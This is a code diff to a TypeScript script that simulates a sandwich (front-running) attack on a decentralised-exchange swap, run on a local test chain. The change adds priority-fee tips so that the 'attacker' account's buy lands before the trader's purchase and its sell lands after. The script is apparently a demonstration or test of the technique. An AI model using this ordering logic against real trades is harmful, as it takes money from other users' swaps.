@@ -39,14 +39,17 @@ function swap(tokenIn: Address, tokenOut: Address, recipient: Address, amountIn:
   return encodeFunctionData({ abi, functionName: 'exactInputSingle', args: [params] })
 }
 
-async function send(from: Address, to: Address, data: Hex, value = 0n): Promise<Hex> {
-  const call = { from, to, data, value: numberToHex(value), gas: numberToHex(2_000_000) }
+/** @param tip a block takes the dearest first, so the tip says who comes when */
+async function send(from: Address, to: Address, data: Hex, { value = 0n, tip = 1n } = {}) {
+  const fees = { maxFeePerGas: numberToHex(10n ** 10n), maxPriorityFeePerGas: numberToHex(tip) }
+  const call = { from, to, data, value: numberToHex(value), gas: numberToHex(2_000_000), ...fees }
   // Accounts of this chain are unlocked, which viem's types do not know.
   const request = client.request as (call: object) => Promise<unknown>
   return (await request({ method: 'eth_sendTransaction', params: [call] })) as Hex
 }
 
-const front = () => send(attacker, router, swap(quote, base, attacker, ether / 5n), ether / 5n)
+const front = () =>
+  send(attacker, router, swap(quote, base, attacker, ether / 5n), { value: ether / 5n, tip: 3n })
 const held = () =>
   client.readContract({ address: base, abi, functionName: 'balanceOf', args: [attacker] })
 
@@ -59,7 +62,8 @@ const bought = await held()
 await client.revert({ id: before })
 await client.setAutomine(false)
 await front()
-const hash = await send(trader, router, swap(quote, base, trader, ether / 10n), ether / 10n)
+const purchase = swap(quote, base, trader, ether / 10n)
+const hash = await send(trader, router, purchase, { value: ether / 10n, tip: 2n })
 await send(attacker, router, swap(base, quote, attacker, bought))
 await client.mine({ blocks: 1 })
 await client.setAutomine(true)
